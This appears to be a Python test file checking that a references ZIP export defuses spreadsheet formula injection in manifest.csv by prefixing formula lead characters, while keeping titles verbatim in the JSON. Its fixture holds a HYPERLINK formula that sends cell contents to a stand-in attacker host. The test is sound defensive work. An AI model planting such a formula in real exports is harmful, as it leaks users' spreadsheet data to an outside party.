"""The references ZIP's manifest.csv opens safely in a spreadsheet: a title that looks like a formula is text."""
import csv
import io
import json
import zipfile

from emotions.models import Character, Detection, Episode
from emotions.services.references import references_zip_write

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def detection(title: str) -> Detection:
    episode = Episode(pk=7, title=title, width=854, height=480)
    return Detection(pk=41, episode=episode, character=Character(slug="pip", name="Pip"), frame=12, time=0.5,
                     duration=0.2, x=1, y=2, w=30, h=30, emotion="happy", confidence=0.9)


def manifests(title: str) -> tuple[list[dict], dict]:
    out = io.BytesIO()
    references_zip_write(detections=[detection(title)], out=out)
    pack = zipfile.ZipFile(out)
    return list(csv.DictReader(io.StringIO(pack.read("manifest.csv").decode()))), json.loads(pack.read("manifest.json"))


def test_a_formula_in_a_title_is_text_in_the_csv_and_verbatim_in_the_json():
    rows, document = manifests(FORMULA)
    assert rows[0]["title"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert document["frames"][0]["title"] == FORMULA


def test_every_formula_lead_character_is_defused_and_plain_titles_are_untouched():
    for lead in "=+-@\t\r":
        rows, _ = manifests(lead + "SUM(A1:A9)")
        assert rows[0]["title"].startswith("'" + lead)
    rows, _ = manifests("Pip's happy morning")
    assert rows[0]["title"] == "Pip's happy morning"
    assert rows[0]["confidence"] == "0.9" and rows[0]["box"] == "1,2,30,30"
